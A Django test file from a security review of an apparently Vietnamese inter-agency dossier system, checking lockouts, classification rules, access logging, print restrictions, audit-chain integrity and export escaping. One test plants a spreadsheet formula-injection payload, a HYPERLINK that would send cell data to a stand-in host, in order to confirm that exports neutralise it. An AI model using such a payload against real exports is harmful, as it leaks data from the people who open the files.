"""Fixes from the security review: each test shows the hole is closed."""

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from phoihop.accounts.choices import Role
from phoihop.audit.models import AuditEvent
from phoihop.core.choices import Classification
from phoihop.core.policy import SYSTEM
from phoihop.dossiers import services as dossier_services
from phoihop.dossiers.choices import MessageDirection
from phoihop.dossiers.models import Attachment
from tests.factories import UserFactory
from tests.web_fixtures import PDF, login, scene  # noqa: F401

RIGHT = "Mật-khẩu-đúng-2024!"


def test_guessing_the_old_password_is_locked_out_and_ends_the_session(scene, client):
    user = scene.world.officer_a
    user.set_password(RIGHT)
    user.save()
    login(client, user)
    url = reverse("accounts:password-change")
    statuses = [
        client.post(
            url,
            {"old_password": f"sai-{i}", "new_password1": "x", "new_password2": "x"},
            REMOTE_ADDR="10.0.0.9",
        ).status_code
        for i in range(6)
    ]
    assert statuses[:4] == [200] * 4 and 429 in statuses
    # the session is over, and the right old password no longer helps
    response = client.post(
        url,
        {"old_password": RIGHT, "new_password1": "Một-mật-khẩu-mới-dài", "new_password2": "x"},
        REMOTE_ADDR="10.0.0.9",
    )
    assert response.status_code == 302 and "login" in response["Location"]
    user.refresh_from_db()
    assert user.check_password(RIGHT)


def test_a_client_chosen_request_id_is_ignored_unless_trusted(scene, client, settings):
    login(client, scene.world.officer_a)
    client.post(
        reverse("dossiers:task-complete", args=[scene.task.pk]),
        HTTP_X_REQUEST_ID="job:demo:0123456789ab",
    )
    event = AuditEvent.objects.get(action="task.complete")
    assert event.request_id != "job:demo:0123456789ab" and len(event.request_id) == 32


def _secret_letter(dossier, world, level):
    return dossier_services.message_add(
        actor=SYSTEM,
        dossier=dossier,
        direction=MessageDirection.INCOMING,
        number_symbol="99/CAVS",
        sent_on=dossier.opened_on,
        sender=world.f,
        recipient=world.a,
        summary="NỘI DUNG MẬT CỦA CÔNG VĂN",
        classification=level,
        files=[SimpleUploadedFile("mat.pdf", PDF, content_type="application/pdf")],
    )


def _edit(client, dossier, classification):
    return client.post(
        reverse("dossiers:edit", args=[dossier.pk]),
        {
            "title": dossier.title,
            "summary": dossier.summary,
            "counterpart": dossier.counterpart_id or "",
            "crime_type": dossier.crime_type_id or "",
            "classification": classification,
        },
    )


def test_an_officer_cannot_lower_a_dossier_and_a_leader_not_below_its_letters(scene, client):
    _secret_letter(scene.dossier, scene.world, Classification.MAT)
    login(client, scene.world.officer_a)
    response = _edit(client, scene.dossier, Classification.THUONG)
    assert response.status_code == 400
    assert "Chỉ lãnh đạo cơ quan chủ trì được hạ độ mật" in response.content.decode()
    login(client, scene.world.leader_a)
    response = _edit(client, scene.dossier, Classification.THUONG)
    assert response.status_code == 400
    assert "dưới độ mật của công văn" in response.content.decode()
    scene.dossier.refresh_from_db()
    assert scene.dossier.classification == Classification.MAT


def test_a_letter_above_the_readers_clearance_stays_hidden_whatever_the_dossier(scene, client):
    letter = _secret_letter(scene.dossier, scene.world, Classification.MAT)
    attachment = Attachment.objects.get(message=letter)
    # a reader cleared for the dossier's level but not the letter's (as after a lowering)
    scene.dossier.classification = Classification.THUONG
    scene.dossier.save()
    reader = UserFactory(username="a.thuong2", agency=scene.world.a, role=Role.OFFICER, clearance=0)
    login(client, reader)
    page = client.get(reverse("dossiers:detail", args=[scene.dossier.pk])).content.decode()
    assert "NỘI DUNG MẬT" not in page
    assert client.get(reverse("dossiers:attachment", args=[attachment.pk])).status_code == 404


def test_a_supporting_agency_cannot_raise_a_dossier_to_lock_the_lead_out(scene, client):
    b_top = UserFactory(
        username="b.tm", agency=scene.world.b, role=Role.OFFICER, clearance=Classification.TUYET_MAT
    )
    login(client, b_top)
    response = _edit(client, scene.dossier, Classification.TUYET_MAT)
    assert response.status_code == 400
    assert "Chỉ cơ quan chủ trì" in response.content.decode()
    scene.dossier.refresh_from_db()
    assert scene.dossier.classification == Classification.MAT


def test_a_persons_history_asks_the_purpose_and_is_logged(scene, client):
    from phoihop.subjects.models import SubjectAccess

    login(client, scene.world.officer_b)
    url = reverse("subjects:history", args=[scene.subject.pk])
    page = client.get(url).content.decode()
    assert "Mục đích truy cập" in page and "073012345" not in page
    assert not SubjectAccess.objects.exists()
    client.post(url, {"purpose": "verification"})
    page = client.get(url).content.decode()
    assert "Thêm đối tượng" in page
    assert SubjectAccess.objects.get().user == scene.world.officer_b


def test_a_letters_print_restriction_restricts_the_dossiers_print(scene, client):
    dossier_services.message_add(
        actor=SYSTEM,
        dossier=scene.dossier,
        direction=MessageDirection.INCOMING,
        number_symbol="7/CAVS",
        sent_on=scene.dossier.opened_on,
        sender=scene.world.f,
        recipient=scene.world.a,
        summary="Thư hạn chế in",
        print_needs_approval=True,
    )
    login(client, scene.world.officer_a)
    response = client.post(reverse("dossiers:print", args=[scene.dossier.pk]))
    assert response.status_code == 403


def test_the_third_party_rule_holds_whatever_the_direction_says(scene):
    from phoihop.core.exceptions import ServiceError
    from phoihop.dossiers import handling

    handling.dossier_set_restrictions(actor=SYSTEM, dossier=scene.dossier, no_third_party=True)
    scene.dossier.refresh_from_db()
    try:
        dossier_services.message_add(
            actor=scene.world.officer_a,
            dossier=scene.dossier,
            direction=MessageDirection.INCOMING,
            number_symbol="200/CAT-PV11",
            sent_on=scene.dossier.opened_on,
            sender=scene.world.a,
            recipient=scene.c,
            summary="Sao gửi hồ sơ",
        )
    except ServiceError as exc:
        assert "recipient" in exc.message_dict
    else:
        raise AssertionError("a party's letter to a third party was accepted")


def test_the_persons_api_list_has_the_web_lists_columns_only(scene, client):
    login(client, scene.world.officer_b)
    row = client.get(reverse("subject-list"), {"q": "vang seo"}).json()["results"][0]
    assert row["full_name"] == "Vàng Seo Dính"
    assert not {"birth_place", "aliases", "address", "documents", "han_viet"} & set(row)


def test_exports_quote_text_that_would_become_a_formula(scene, client):
    import csv
    import io

    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://x.example/?"&A1,"Mở")'
    dossier_services.dossier_update(actor=SYSTEM, dossier=scene.dossier, title=evil)
    login(client, scene.world.officer_b)
    body = b"".join(client.get(reverse("dossiers:export-csv")).streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert ["'" + evil] == [r[1] for r in rows if len(r) > 1 and evil in r[1]]
    sheet = load_workbook(io.BytesIO(client.get(reverse("dossiers:export-xlsx")).content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value and evil in str(c.value)]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_chain_covers_named_users_parties_files_and_the_actor_id(scene):
    from phoihop.audit.services import audit_verify
    from tests.audit_helpers import guard_lifted

    opened = AuditEvent.objects.get(action="dossier.open", scope_id=scene.dossier.pk)
    assert opened.changes["supporting_agencies"] == [scene.world.b.pk]
    added = AuditEvent.objects.get(action="message.add", object_id=str(scene.message.pk))
    assert added.changes["attachments"][0]["sha256"] == scene.attachment.sha256
    officer = UserFactory(
        username="a.tm3",
        agency=scene.world.a,
        role=Role.OFFICER,
        clearance=Classification.TUYET_MAT,
    )
    dossier_services.dossier_update(
        actor=officer, dossier=scene.dossier, classification=Classification.TUYET_MAT
    )
    raised = AuditEvent.objects.filter(action="dossier.update").latest("seq")
    assert raised.changes["named_users"] == [[], [officer.pk]]
    with guard_lifted():
        AuditEvent.objects.filter(pk=raised.pk).update(actor=scene.world.officer_a)
    assert audit_verify().first_broken_seq == raised.seq


def test_a_failed_csrf_check_shows_the_projects_page(scene):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    login(client, scene.world.officer_a)
    response = client.post(reverse("dossiers:print", args=[scene.dossier.pk]))
    assert response.status_code == 403
    assert "Biểu mẫu đã hết hiệu lực" in response.content.decode()


def test_the_csv_export_is_written_in_the_users_language(scene, client):
    login(client, scene.world.officer_a)
    client.post(reverse("set_language"), {"language": "en"})
    body = b"".join(client.get(reverse("dossiers:export-csv")).streaming_content).decode(
        "utf-8-sig"
    )
    assert "Dossier no." in body
    assert "Số hồ sơ" not in body and "Mới mở" not in body


def test_only_the_lead_agencys_leaders_set_restrictions_and_decide_their_own(scene, client):
    from phoihop.dossiers import handling
    from phoihop.dossiers.choices import CopyKind

    leader_b = UserFactory(
        username="b.lanhdao",
        agency=scene.world.b,
        role=Role.LEADER,
        clearance=Classification.TOI_MAT,
    )
    login(client, leader_b)
    url = reverse("dossiers:restrictions", args=[scene.dossier.pk])
    assert client.post(url, {"print_needs_approval": "on"}).status_code == 404
    handling.dossier_set_restrictions(
        actor=SYSTEM, dossier=scene.dossier, print_needs_approval=True
    )
    handling.copy_request(
        actor=scene.world.officer_a, dossier=scene.dossier, kind=CopyKind.PRINT, reason="Lưu"
    )
    page = client.get(scene.dossier.get_absolute_url()).content.decode()
    assert "copy-decide" not in page and 'value="1" class="button">' not in page
    login(client, scene.world.leader_a)
    page = client.get(scene.dossier.get_absolute_url()).content.decode()
    assert reverse("dossiers:restrictions", args=[scene.dossier.pk]) in page
    assert "/decide/" in page


def test_the_request_form_is_offered_only_where_something_is_restricted(scene, client):
    login(client, scene.world.officer_a)
    page = client.get(scene.dossier.get_absolute_url()).content.decode()
    assert reverse("dossiers:copy-request", args=[scene.dossier.pk]) not in page
